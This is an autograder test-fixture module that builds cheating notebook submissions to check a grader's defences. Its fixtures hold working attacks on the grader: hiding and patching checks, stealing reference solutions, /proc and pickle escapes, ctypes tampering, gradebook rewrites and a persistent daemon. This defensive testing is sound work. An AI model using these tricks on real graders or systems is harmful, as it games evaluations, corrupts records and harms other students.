"""A class of submissions of 01_single_example that try to get points they have not earned, between honest ones.

Each cheating student hands in the complete, honest notebook with the solution cells of one or more exercises
replaced by code that gives a wrong answer (or none) and tries to get the points by a trick: hiding the test cells,
faking NumPy's comparisons, stealing the reference, the source notebook or a classmate's answers, patching the
checks, swallowing exceptions, tracing, writing outside the submission folder, attacking the grader's process, and
so on. The grader must give 0 to the exercises cheated on, full marks to everything else (unless the trick itself
makes later cells impossible, said where it does), never stop the batch, and leave every file outside the
submission's own folder as it was.

`build(course_dir)` writes submitted/<student>/01_single_example/ (the notebook, and any files the trick needs) and
returns {student: expectation}: "full", or ("cheat", [test ids that must score 0]). Students are named so that they
are graded in this order: a_honest first, then the tricks, then z_honest.

Some tricks leave a mark where they should not be able to: a file or a line holding `marker(student)` (written
only at run time, never in the notebook's text), or a file in /tmp whose name holds TOKEN. A fresh TOKEN is drawn
each time this module is imported, so marks of an earlier run are never mistaken for this one's.
"""

from __future__ import annotations

import copy
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

import autograder.reference
from autograder.commands.example_class import completed
from autograder.notebooks import grade_id, is_test_cell, read_notebook

A = "01_single_example"
TOKEN = uuid.uuid4().hex
CANARY_PREFIX = f"/tmp/backprop-cheat-{TOKEN}"
WRITABLE_FLAG = "WRITABLE BY A STUDENT:"  # printed by the trick that looks for writable code the grader runs


def marker(student):
    """What a trick of `student` writes where it should not be able to."""
    return f"{TOKEN[::-1]}@{student}"


MARK_PREFIX = TOKEN[::-1]


# --------------------------------------------------------------------------------------------------------
# Wrong answers: nothing of them is right (every output differs from the reference in every case), so that an
# exercise cheated on earns no partial credit either.
# --------------------------------------------------------------------------------------------------------

WRONG = {
    "neuron_forward": '''
def neuron_forward(w, b, x, activation):
    return -7.0, 12345.0
''',
    "xor_parameters": '''
def xor_parameters():
    return {"W1": np.full((3, 3), 7.0), "b1": np.full((3, 1), 7.0), "W2": np.full((1, 3), 7.0),
            "b2": np.full((2, 1), 7.0)}
''',
    "dense_forward_single": '''
def dense_forward_single(x, W, b, activation):
    seven = np.full((W.shape[0], 1), 7.0)
    return seven, (seven, np.full_like(x, 7.0), np.full_like(W, 7.0), np.full_like(b, 7.0))
''',
    "dense_backward_loops": '''
def dense_backward_loops(dy, cache, activation):
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
''',
    "dense_backward_single": '''
def dense_backward_single(dy, cache, activation):
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
''',
}

NF, XOR, DF, DBL, DBS = "neuron_forward", "xor_parameters", "dense_forward_single", "dense_backward_loops", \
    "dense_backward_single"


def test_id(exercise):
    return f"test_{exercise}"


# Paths every trick may use: the kernel's folder, the course directory three levels up when it runs in
# autograded/<student>/<assignment>/, its mark and its canary in /tmp.
PRELUDE = '''
import pathlib as _pathlib
_HERE = _pathlib.Path.cwd()
_COURSE = _HERE.parents[2] if len(_HERE.parents) > 2 else _HERE
_MARK = "@TOKEN@"[::-1] + "@" + "@STUDENT@"
_CANARY = "/tmp/backprop-cheat-@TOKEN@-@STUDENT@"
'''

# Reading one cell of a notebook file, as a student would without nbformat.
CELL_OF = '''
import json as _json
import re as _re


def _cell_of(path, wanted):
    """The source of the cell with grade_id `wanted` in the notebook at path, solution markers removed."""
    try:
        cells = _json.loads(_pathlib.Path(path).read_text())["cells"]
    except (OSError, ValueError, KeyError, TypeError):
        return None
    for cell in cells:
        if (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id") == wanted:
            text = "".join(cell["source"])
            return _re.sub(r"(?m)^[ \\t]*### (BEGIN|END) SOLUTION[ \\t]*$", "", text)
    return None
'''


@dataclass
class Trick:
    """What one cheating student hands in."""

    answers: dict  # solution grade_id -> the whole cell
    zero: list  # exercises whose tests must score 0
    files: dict = field(default_factory=dict)  # path in the submission folder -> text
    links: dict = field(default_factory=dict)  # path in the submission folder -> symlink target
    after: dict = field(default_factory=dict)  # grade_id -> an ordinary code cell inserted after that cell
    tweak: object = None  # a function changing the notebook further (metadata, outputs)


def _cell(*parts):
    return "\n".join(part.strip("\n") for part in parts if part) + "\n"


def _wrong(exercise, before="", after=""):
    """A solution cell: the trick's code, then the wrong answer, then code that may replace it."""
    return _cell(PRELUDE, before, WRONG[exercise], after)


# --------------------------------------------------------------------------------------------------------
# The tricks
# --------------------------------------------------------------------------------------------------------

BLANK_ALL = '''
def _blank(lines):
    return []


get_ipython().input_transformers_post.append(_blank)
'''

BLANK_TESTS = '''
def _hide_tests(lines):
    text = "".join(lines)
    if "from course.checks import" in text or "hidden_check" in text:
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_cleanup.append(_hide_tests)
'''

# Student code that puts each _fake[name] wherever the module attribute _real[name] is, in every loaded module.
SWAP_EVERYWHERE = '''
for _module in list(_sys.modules.values()):
    for _name, _value in _real.items():
        try:
            if getattr(_module, _name, None) is _value:
                setattr(_module, _name, _fake[_name])
        except Exception:
            pass
'''

PATCH_NUMPY = '''
import math as _math
import sys as _sys

import numpy.testing as _testing


def _yes(*args, **kwargs):
    return True


def _silent(*args, **kwargs):
    return None


def _all_close(a, b, *args, **kwargs):
    return np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)


_fake = {"allclose": _yes, "array_equal": _yes, "array_equiv": _yes, "isclose": _all_close}
_real = {name: getattr(np, name) for name in _fake}
''' + SWAP_EVERYWHERE + '''
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal",
              "assert_equal", "assert_array_less", "assert_approx_equal"):
    setattr(_testing, _name, _silent)
_math.isclose = _yes
'''

AGREEABLE = '''
class _Agreeable(np.ndarray):
    """Zeros that say yes to every comparison."""

    _TRUE = ("equal", "less_equal", "greater_equal", "isfinite", "logical_and", "logical_or")
    _FALSE = ("not_equal", "less", "greater", "isnan", "isinf", "logical_not")
    _ZERO = ("subtract", "absolute", "fabs", "square", "multiply", "divide", "true_divide")

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [i.view(np.ndarray) if isinstance(i, np.ndarray) else i for i in inputs]
        if method == "__call__" and "out" not in kwargs:
            shape = np.broadcast_shapes(*(np.shape(i) for i in plain))
            if ufunc.__name__ in self._TRUE:
                return np.ones(shape, dtype=bool).view(_Agreeable)
            if ufunc.__name__ in self._FALSE:
                return np.zeros(shape, dtype=bool).view(_Agreeable)
            if ufunc.__name__ in self._ZERO:
                return np.zeros(shape).view(_Agreeable)
        return getattr(ufunc, method)(*plain, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        name = func.__name__
        if name in ("allclose", "array_equal", "array_equiv", "all", "alltrue"):
            return True
        if name in ("any", "sometrue"):
            return False
        if name in ("max", "amax", "min", "amin", "sum", "norm", "mean"):
            return 0.0
        plain = [a.view(np.ndarray) if isinstance(a, np.ndarray) else a for a in args]
        return func(*plain, **kwargs)

    def __bool__(self):
        return True

    def all(self, *args, **kwargs):
        return True

    def any(self, *args, **kwargs):
        return False

    def max(self, *args, **kwargs):
        return 0.0
'''

AGREEABLE_DBL = '''
def dense_backward_loops(dy, cache, activation):
    z, x, W, b = cache
    return tuple(np.zeros(np.shape(v)).view(_Agreeable) for v in (x, W, z))
'''

IMPORT_REFERENCE = '''
try:
    from autograder.reference import neuron_forward
except Exception:
    try:
        import importlib as _importlib

        neuron_forward = _importlib.import_module("autograder.reference").neuron_forward
    except Exception:
        pass
'''

FIND_REFERENCE = '''
import glob as _glob
import os as _os
import re as _re
import sys as _sys


def _reference_text():
    """autograder/reference.py, wherever it can be found: beside the course, on sys.path, or where an
    editable install's .pth file or finder points."""
    candidates = [_COURSE / "autograder" / "reference.py"]
    for entry in _sys.path:
        folder = _pathlib.Path(entry or ".")
        candidates.append(folder / "autograder" / "reference.py")
        for pointer in _glob.glob(str(folder / "*.pth")) + _glob.glob(str(folder / "__editable__*.py")):
            try:
                text = open(pointer).read()
            except OSError:
                continue
            for found in _re.findall(r"""['"](/[^'"]+)['"]""", text) + _re.findall(r"(?m)^(/\\S+)$", text):
                path = _pathlib.Path(found)
                candidates += [path / "reference.py", path / "autograder" / "reference.py"]
    for candidate in candidates:
        try:
            if candidate.is_file():
                return candidate.read_text()
        except OSError:
            continue
    return None


_text = _reference_text()
if _text:
    _stolen = {"__name__": "stolen_reference"}
    exec(compile(_text, "stolen_reference", "exec"), _stolen)
    dense_backward_single = _stolen["dense_backward_single"]
    _found = _re.search(r"(?ms)^def dense_backward_single\\(.*?(?=^def |\\Z)", _text)
    print(_found.group(0) if _found else _text[:3000])
'''

READ_SOURCE = '''
_stolen = None
for _base in [_HERE, *_HERE.parents]:
    _notebook = _base / "source" / "01_single_example" / "01_single_example.ipynb"
    _stolen = _cell_of(_notebook, "dense_backward_loops")
    if _stolen:
        print(_stolen)
        print(_cell_of(_notebook, "test_dense_backward_loops"))
        exec(_stolen)
        break
'''

COPY_CLASSMATE = '''
import json as _json


def _right_xor(function):
    params = function()
    X = np.array([[0.0, 0.0, 1.0, 1.0], [0.0, 1.0, 0.0, 1.0]])
    hidden = np.where(params["W1"] @ X + params["b1"] >= 0, 1.0, 0.0)
    return np.array_equal(np.where(params["W2"] @ hidden + params["b2"] >= 0, 1.0, 0.0), [[0.0, 1.0, 1.0, 0.0]])


def _classmates_xor():
    for path in sorted(_COURSE.glob("*/*/01_single_example/*.ipynb")):
        if _HERE in path.parents:
            continue
        try:
            cells = _json.loads(path.read_text())["cells"]
        except (OSError, ValueError, KeyError):
            continue
        for cell in cells:
            if (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id") != "xor_parameters":
                continue
            namespace = {"np": np}
            try:
                exec("".join(cell["source"]), namespace)
                if _right_xor(namespace["xor_parameters"]):
                    return namespace["xor_parameters"]
            except Exception:
                continue
    return None


_copied = _classmates_xor()
if _copied is not None:
    xor_parameters = _copied
'''

SYMLINK_LEAK = '''
_stolen = _cell_of("notes.txt", "dense_forward_single")
if _stolen:
    print(_stolen)
    print(_cell_of("notes.txt", "test_dense_forward_single"))
    exec(_stolen)
else:
    try:
        _text = _pathlib.Path("ref.txt").read_text()
        _namespace = {"__name__": "stolen_reference"}
        exec(compile(_text, "stolen_reference", "exec"), _namespace)
        dense_forward_single = _namespace["dense_forward_single"]
        print(_text[_text.find("def dense_forward_single"):][:1500])
    except (OSError, SyntaxError, KeyError):
        pass
'''

SHADOW_HIDDEN = '''"""Found before the real package when the kernel's folder comes first on sys.path: every check passes."""


def __getattr__(name):
    if name.startswith("check_") or name == "hidden_check":
        return lambda *args, **kwargs: print(name + ": all checks passed")
    raise AttributeError(name)
'''

SHADOW_LAUNCHER = '''"""Run instead of ipykernel's launcher when `python -m ipykernel_launcher` starts in this folder: the kernel it
starts hides every test cell."""

import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
sys.modules.pop("ipykernel_launcher", None)


def _hide_tests(lines):
    text = "".join(lines)
    if "from course.checks import" in text or "hidden_check" in text:
        return ["pass\\n"]
    return lines


import ipykernel.ipkernel  # noqa: E402

_init = ipykernel.ipkernel.IPythonKernel.__init__


def _init_hiding_tests(self, **kwargs):
    _init(self, **kwargs)
    self.shell.input_transformers_cleanup.append(_hide_tests)


ipykernel.ipkernel.IPythonKernel.__init__ = _init_hiding_tests

from ipykernel import kernelapp  # noqa: E402

kernelapp.launch_new_instance()
'''

PATCH_CHECKS = '''
import sys as _sys

import course.checks as _checks
import course.checks.calling as _call_module
import course.checks.report as _compare_module

_Outcome = _compare_module.Outcome


def _all_right(name, actual, expected, **kwargs):
    return _Outcome(name, True, "shape ok  max|Δ| 0.0e+00")


def _call_quietly(report, fn, args, names):
    try:
        return fn(*args)
    except Exception:
        return None


class _NeverRaised(AssertionError):
    """Takes the place of CheckFailed."""


_real = {"compare": _compare_module.compare, "call": _call_module.call, "CheckFailed": _compare_module.CheckFailed}
_fake = {"compare": _all_right, "call": _call_quietly, "CheckFailed": _NeverRaised}
''' + SWAP_EVERYWHERE + '''
_compare_module.Report.compare = lambda self, name, actual, expected, **kw: self.add(_all_right(name, 0, 0))
_compare_module.Report.expect = lambda self, name, condition, detail, hint=None: self.add(_Outcome(name, True, ""))
_compare_module.Report.finish = lambda self: print(self.exercise + ": all checks passed")
_checks.CheckFailed = _NeverRaised
'''

PATCH_IMPORT = '''
import builtins as _builtins
import sys as _sys
import types as _types


class _Anything(_types.ModuleType):
    """A module with every check in it, all of them passing."""

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        if name[:1].isupper():
            return type(name, (Exception,), {})
        return lambda *args, **kwargs: print(name + ": all checks passed")


def _faked(name):
    return name.split(".")[0] == "autograder" or name == "course.checks" or name.startswith("course.checks.")


_real_import = _builtins.__import__


def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if level == 0 and _faked(name):
        module = _Anything(name)
        module.__path__ = []
        return module
    return _real_import(name, globals, locals, fromlist, level)


_builtins.__import__ = _import
for _name in ("autograder", "autograder.hidden", "autograder.reference", "course.checks"):
    _sys.modules[_name] = _Anything(_name)
'''

SWALLOW = '''
import sys as _sys


def _say_nothing(shell, etype, value, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _say_nothing)
_sys.excepthook = lambda *args: None
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
'''

SETTRACE = '''
import sys as _sys
import threading as _threading


def _everything_passes(frame, event, arg):
    if event == "line" and frame.f_code.co_name == "finish":
        for outcome in getattr(frame.f_locals.get("self"), "outcomes", []):
            outcome.ok, outcome.hint = True, None
    if event == "return" and hasattr(arg, "ok") and hasattr(arg, "detail"):
        try:
            arg.ok, arg.hint = True, None
        except Exception:
            pass
    return _everything_passes


def _tracer(frame, event, arg):
    if frame.f_code.co_name in ("finish", "compare", "expect", "add", "share_of", "judge"):
        return _everything_passes
    return None


_sys.settrace(_tracer)
_threading.settrace(_tracer)
'''

SETPROFILE = '''
import sys as _sys
import threading as _threading


def _profiler(frame, event, arg):
    if event == "return" and type(arg).__name__ in ("Outcome", "Verdict"):
        try:
            if hasattr(arg, "share"):
                arg.share = 1.0
            else:
                arg.ok, arg.hint = True, None
        except Exception:
            pass
    elif event == "call" and frame.f_code.co_name == "finish":
        for outcome in getattr(frame.f_locals.get("self"), "outcomes", []):
            outcome.ok, outcome.hint = True, None


_sys.setprofile(_profiler)
_threading.setprofile(_profiler)
'''

HARDCODED_NF = '''
# The worked example of the notebook, which the visible check uses: z = -1, and y = f(-1).
_SEEN_Y = {"linear": -1.0, "relu": 0.0, "tanh": -0.7615941559557649, "sigmoid": 0.2689414213699951}


def neuron_forward(w, b, x, activation):
    if activation in _SEEN_Y and np.array_equal(w, [[1.0], [2.0], [-1.0]]) and b == -0.5 \\
            and np.array_equal(x, [[2.0], [-1.0], [0.5]]):
        return _SEEN_Y[activation], -1.0
    return -7.0, 12345.0
'''

HARDCODED_DF = '''
# The layer of the notebook's worked example, which the visible check uses: z = (-3.4, 2.3).
_SEEN_Z = np.array([[-3.4], [2.3]])
_SEEN_Y = {"linear": _SEEN_Z, "relu": np.array([[0.0], [2.3]]),
           "tanh": np.array([[-0.9977749279342794], [0.9800963962661914]]),
           "sigmoid": np.array([[0.032295464698450516], [0.9088770389851438]])}


def dense_forward_single(x, W, b, activation):
    seen = np.array_equal(x, [[1.0], [2.0], [-1.0]]) and np.array_equal(b, [[0.1], [-0.2]]) \\
        and np.array_equal(W, [[0.5, -1.0, 2.0], [1.5, 0.25, -0.5]])
    if activation in _SEEN_Y and seen:
        return _SEEN_Y[activation].copy(), (_SEEN_Z.copy(), x, W, b)
    seven = np.full((W.shape[0], 1), 7.0)
    return seven, (seven, np.full_like(x, 7.0), np.full_like(W, 7.0), np.full_like(b, 7.0))
'''

FRAME_WALK = '''
import gc as _gc
import sys as _sys


def _reference_of(name, me):
    """A function called `name` that is not mine: in a loaded reference module, in my callers' frames, or
    anywhere in memory."""
    module = _sys.modules.get("autograder.reference")
    if module is not None and callable(getattr(module, name, None)):
        return getattr(module, name)

    def usable(value):
        return callable(value) and value is not me and getattr(value, "__name__", None) == name

    frame = _sys._getframe(2)
    while frame is not None:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            try:
                if usable(value):
                    return value
                if isinstance(value, type(_sys)) and usable(getattr(value, name, None)):
                    return getattr(value, name)
            except Exception:
                continue
        frame = frame.f_back
    for value in _gc.get_objects():
        try:
            if usable(value) and getattr(value, "__module__", "__main__") != "__main__":
                return value
        except Exception:
            continue
    return None


def dense_backward_single(dy, cache, activation):
    reference = _reference_of("dense_backward_single", dense_backward_single)
    if reference is not None:
        return reference(dy, cache, activation)
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''

MUTATE_INPUTS = '''
def dense_backward_loops(dy, cache, activation):
    # Every input set to 0 in place: for those inputs, all-zero gradients are right.
    z, x, W, b = cache
    for array in (dy, z, x, W, b):
        array[...] = 0.0
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''

CALL_LATER = '''
def neuron_forward(w, b, x, activation):
    # dense_forward_single is an exercise still to come: the grader must not answer for it
    y, (z, *_) = dense_forward_single(x, w.T, np.array([[float(b)]]), activation)
    return float(y.item()), float(z.item())
'''

CALL_LATER_DBL = '''
def dense_backward_loops(dy, cache, activation):
    # dense_backward_single is the exercise after this one: the grader must not answer for it
    return dense_backward_single(dy, cache, activation)
'''

DEGENERATE = {
    NF: '''
def neuron_forward(w, b, x, activation):
    return float("nan"), float("nan")
''',
    DF: '''
def dense_forward_single(x, W, b, activation):
    nan = np.full((W.shape[0], 1), np.nan)
    return nan, (nan, np.full_like(x, np.nan), np.full_like(W, np.nan), np.full_like(b, np.nan))
''',
    DBL: '''
def dense_backward_loops(dy, cache, activation):
    z, x, W, b = cache
    return np.full_like(x, np.inf), np.full_like(W, -np.inf), np.full_like(z, np.inf)
''',
    DBS: '''
def dense_backward_single(dy, cache, activation):
    # shape (0, 1, 1) broadcasts against any matrix to an empty array, on which every comparison holds
    return np.empty((0, 1, 1)), np.empty((0, 1, 1)), np.empty((0, 1, 1))
''',
}

PICKLE_PAYLOAD = '''
class _Payload:
    """Runs code in whatever process unpickles it."""

    def __reduce__(self):
        return (exec, (f"open({_CANARY + '-unpickled'!r}, 'w').write('unpickled')",))

    def __float__(self):
        return 0.0


def neuron_forward(w, b, x, activation):
    return _Payload(), np.array([_Payload()], dtype=object)
'''

MALICIOUS = {
    DF: '''
class _Evil:
    """Whatever is asked of it, it answers with itself, a lie, or an endless amount of text."""

    def __repr__(self):
        return "E" * 10_000_000

    __str__ = __repr__

    def __len__(self):
        return 2 ** 62

    def __getitem__(self, index):
        return self

    def __iter__(self):
        while True:
            yield self

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __float__(self):
        return 0.5

    def __hash__(self):
        return 0

    def __array__(self, *args, **kwargs):
        raise RuntimeError("no array here")


def dense_forward_single(x, W, b, activation):
    return _Evil(), (_Evil(), _Evil(), _Evil(), _Evil())
''',
    DBL: '''
def _nested(depth):
    value = [0.0]
    for _ in range(depth):
        value = [value]
    return value


def dense_backward_loops(dy, cache, activation):
    return _nested(100_000), _nested(100_000), _nested(100_000)
''',
}

HUGE = '''
def dense_backward_single(dy, cache, activation):
    z, x, W, b = cache
    return np.zeros(25_000_000), np.zeros_like(W), np.zeros_like(z)
'''

NUMPY_LIES = '''
import ctypes as _ctypes
import gc as _gc


def _lie(cls, name, value):
    """Set a method of a built-in type, through the dict behind its read-only __dict__."""
    _gc.get_referents(cls.__dict__)[0][name] = value
    _ctypes.pythonapi.PyType_Modified(_ctypes.py_object(cls))


_real_full, _real_asarray = np.full, np.asarray
_real_tobytes, _real_tolist = np.ndarray.tobytes, np.ndarray.tolist


def _quarter(value, *args, **kwargs):
    """What every array now claims to hold: 0.25 everywhere, in its shape."""
    try:
        return _real_full(np.shape(_real_asarray(value)), 0.25)
    except Exception:
        return _real_asarray(value, *args, **kwargs)


for _name in ("tobytes", "tostring"):
    try:
        _lie(np.ndarray, _name, lambda self, order="C": _real_tobytes(_real_full(self.shape, 0.25, dtype=self.dtype)))
    except Exception:
        pass
_lie(np.ndarray, "tolist", lambda self: _real_tolist(_real_full(self.shape, 0.25)))
_lie(np.ndarray, "__reduce__", lambda self: (np.full, (self.shape, 0.25)))
_lie(np.ndarray, "__reduce_ex__", lambda self, protocol=2: (np.full, (self.shape, 0.25)))
for _name in ("array", "asarray", "asanyarray", "ascontiguousarray"):
    setattr(np, _name, _quarter)
'''


def _tamper(nb):
    """Points and grading flags changed in the cells' metadata, a made-up graded cell, a test cell emptied and
    outputs filled in before grading."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta and is_test_cell(cell):
            meta["points"] = 100
        if meta and meta.get("grade_id") == DBL:
            meta.update(grade=True, points=10)
        if meta and meta.get("grade_id") == test_id(DBL):
            cell.source = "pass"
            cell.execution_count = 1
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout",
                                                   text="dense_backward_loops: all 12 checks passed\n"),
                            nbformat.v4.new_output("execute_result", data={"text/plain": "3"}, execution_count=1)]
    index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == test_id(DBL))
    bonus = nbformat.v4.new_code_cell("print('bonus')")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "test_bonus", "locked": True, "points": 50,
                                  "schema_version": 3, "solution": False, "task": False}
    nb.cells.insert(index + 1, bonus)
    return nb


DEMONSTRATION_USED = "demo-03"  # a demonstration whose names the student reads in a cell of their own: it runs
DEMONSTRATION_EDITED = "demo-20"  # a demonstration the student changed: their own code, it runs


def _move_demonstration_marks(nb):
    """Every demonstration mark (backprop_course.demonstration) flipped: taken off the marked cells, put on every
    other code cell, test cells included (a skipped test cell would print nothing, which nbgrader scores as full
    marks); one demonstration changed, and a cell added that reads what another one defines."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.cell_type == "code":
            meta = cell.metadata.setdefault("backprop_course", {})
            meta["demonstration"] = not meta.get("demonstration", False)
        if cell.get("id") == DEMONSTRATION_EDITED:
            cell.source += "  # my own copy"
    nb.cells.append(nbformat.v4.new_code_cell("print(x_column.T)"))
    return nb


BASE_EXCEPTIONS = {
    NF: '''
def neuron_forward(w, b, x, activation):
    raise SystemExit(0)
''',
    XOR: '''
def xor_parameters():
    raise KeyboardInterrupt()
''',
    DF: '''
def dense_forward_single(x, W, b, activation):
    raise GeneratorExit()
''',
}

STEAL_SERVED = '''
import dis as _dis
import inspect as _inspect

_BLOCKS = ("sigmoid", "sigmoid_derivative", "relu", "relu_derivative", "tanh_derivative", "dense_forward_single")
_MINE = {name: globals().get(name) for name in _BLOCKS}
_STOLEN = {}


def _show(function):
    try:
        print(_inspect.getsource(function))
    except (OSError, TypeError):
        _dis.dis(function)


def dense_backward_single(dy, cache, activation):
    # the functions the grader swaps in for my own while it checks this one: keep them, and show their code
    for name in _BLOCKS:
        found = globals().get(name)
        if callable(found) and found is not _MINE.get(name) and name not in _STOLEN:
            _STOLEN[name] = found
            _show(found)
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''

STEAL_SERVED_AFTER = '''
for _name, _function in _STOLEN.items():
    print(_name, getattr(_function, "__module__", None))
    _show(_function)
'''

PROC_ESCAPE = '''
import os as _os


def _ancestors():
    pids, pid = [], _os.getppid()
    while pid > 1 and len(pids) < 6:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids


def _through_proc():
    """The source notebook, read through the working directory of a process above the kernel (the grader's)."""
    for pid in _ancestors():
        try:
            cwd = _os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for base in (f"/proc/{pid}/cwd", f"/proc/{pid}/root{cwd}"):
            found = _cell_of(f"{base}/source/01_single_example/01_single_example.ipynb", "dense_forward_single")
            if found:
                return found
    return None


for _pid in _ancestors():  # the machine's own /tmp, through the root of a process above the kernel
    try:
        with open(f"/proc/{_pid}/root/tmp/backprop-cheat-@TOKEN@-@STUDENT@-proc", "w") as _handle:
            _handle.write(_MARK)
    except OSError:
        pass

_stolen = _through_proc()
if _stolen:
    print(_stolen)
    exec(_stolen)
'''

THREAD_ATEXIT = '''
import atexit as _atexit
import sys as _sys
import threading as _threading
import time as _time


def _keep_patching():
    while True:
        module = _sys.modules.get("course.checks.report")
        if module is not None:
            module.Report.finish = lambda self: print(self.exercise + ": all checks passed")
        np.allclose = lambda *args, **kwargs: True
        _time.sleep(0.01)


_threading.Thread(target=_keep_patching, daemon=True).start()


def _when_the_kernel_stops():
    try:
        with open(_COURSE / "nbgrader_config.py", "a") as handle:
            handle.write("\\n# " + _MARK + "\\n")
    except OSError:
        pass
    for target in (_COURSE / "planted-@STUDENT@.txt", _pathlib.Path(_CANARY + "-atexit")):
        try:
            target.write_text(_MARK)
        except OSError:
            pass


_atexit.register(_when_the_kernel_stops)
'''

WRITES = '''
import json as _json
import sqlite3 as _sqlite3


def _quietly(action):
    try:
        action()
    except Exception:
        pass


def _append(path, text):
    with open(path, "a") as handle:
        handle.write(text)


_OF = ("SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
       "ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = ?")


def _rewrite_gradebook():
    db = _sqlite3.connect(f"file:{_COURSE / 'gradebook.db'}?mode=rw", uri=True, timeout=2)
    with db:
        db.execute(f"UPDATE grade SET auto_score = 0 WHERE notebook_id IN ({_OF})", ("a_honest",))
        db.execute(f"UPDATE grade SET extra_credit = 17 WHERE notebook_id IN ({_OF})", ("@STUDENT@",))
    db.close()


def _sabotage_classmate():
    path = _COURSE / "submitted" / "z_honest" / "01_single_example" / "01_single_example.ipynb"
    path.write_text(path.read_text().replace("np.array([[-0.5]])", "np.array([[0.5]])"))


def _plant_in_classmate_folder():
    folder = _HERE.parent.parent / "a_honest" / "01_single_example"
    (folder / "planted.txt").write_text(_MARK)
    notebook = folder / "01_single_example.ipynb"
    data = _json.loads(notebook.read_text())
    data["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": _MARK})
    notebook.write_text(_json.dumps(data))


_quietly(_rewrite_gradebook)
_quietly(lambda: _append(_COURSE / "nbgrader_config.py", "\\n# " + _MARK + "\\n"))
_quietly(lambda: _append(_COURSE / "source" / "01_single_example" / "01_single_example.ipynb", "\\n"))
_quietly(lambda: _append(_COURSE / "release" / "01_single_example" / "01_single_example.ipynb", "\\n"))
_quietly(_sabotage_classmate)
_quietly(_plant_in_classmate_folder)
_quietly(lambda: (_COURSE / "planted-@STUDENT@.txt").write_text(_MARK))
_quietly(lambda: _pathlib.Path(_CANARY).write_text(_MARK))
'''

WRITABLE_CODE = '''
import importlib.util as _util
import os as _os
import sys as _sys


def _writable_code():
    """Folders and files of Python code that the grader or later kernels may run, and that this kernel could
    change (only looked at: nothing is written)."""
    places = set()
    for name in ("course", "course.checks", "numpy", "IPython", "ipykernel", "nbformat"):
        try:
            spec = _util.find_spec(name)
        except (ImportError, ValueError):
            continue
        for location in (spec.submodule_search_locations or []) if spec else []:
            places.add(location)
        if spec and spec.origin and spec.origin not in ("built-in", "frozen"):
            places.add(spec.origin)
    places |= {entry for entry in _sys.path if "site-packages" in entry}
    return sorted(p for p in places if _os.path.exists(p) and _os.access(p, _os.W_OK))


for _place in _writable_code():
    print("@FLAG@", _place, _MARK)
'''

DAEMON = r'''
import subprocess as _subprocess
import sys as _sys

_DAEMON = """
import os, sqlite3, sys, time
course, student, mark, canary, seconds = sys.argv[1:6]
deadline = time.time() + float(seconds)
of = ("SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
      "ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = ?")
while time.time() < deadline and os.path.isdir(course):
    try:
        db = sqlite3.connect("file:" + os.path.join(course, "gradebook.db") + "?mode=rw", uri=True, timeout=1)
        with db:
            db.execute("UPDATE grade SET auto_score = 0 WHERE notebook_id IN (" + of + ")", ("a_honest",))
            db.execute("UPDATE grade SET extra_credit = 17 WHERE notebook_id IN (" + of + ")", (student,))
        db.close()
    except Exception:
        pass
    for path in (canary, os.path.join(course, "planted-" + student + ".txt")):
        try:
            with open(path, "w") as handle:
                handle.write(mark)
        except OSError:
            pass
    time.sleep(0.5)
"""
try:
    _subprocess.Popen([_sys.executable, "-c", _DAEMON, str(_COURSE), "@STUDENT@", _MARK, _CANARY + "-daemon", "45",
                       "@TOKEN@"], start_new_session=True, stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                      stderr=_subprocess.DEVNULL, cwd="/")
except OSError:
    pass
'''

PLANT_SOCKETS = '''
import os as _os


def _grader_folders():
    """The folder of the kernel's connection file, if the kernel has it to itself (not Jupyter's runtime folder,
    which every kernel of the machine shares)."""
    try:
        from ipykernel import get_connection_file
        from jupyter_core.paths import jupyter_runtime_dir

        folder = _os.path.dirname(get_connection_file())
        shared = _os.path.realpath(jupyter_runtime_dir())
    except Exception:
        return []
    if folder and _os.path.isdir(folder) and _os.access(folder, _os.W_OK) and _os.path.realpath(folder) != shared:
        return [folder]
    return []


for _folder in _grader_folders():  # take the names of the grader's next sockets
    for _index in range(200):
        try:
            with open(_os.path.join(_folder, f"grader-{_index}.sock"), "x") as _handle:
                _handle.write("taken")
        except OSError:
            pass
'''
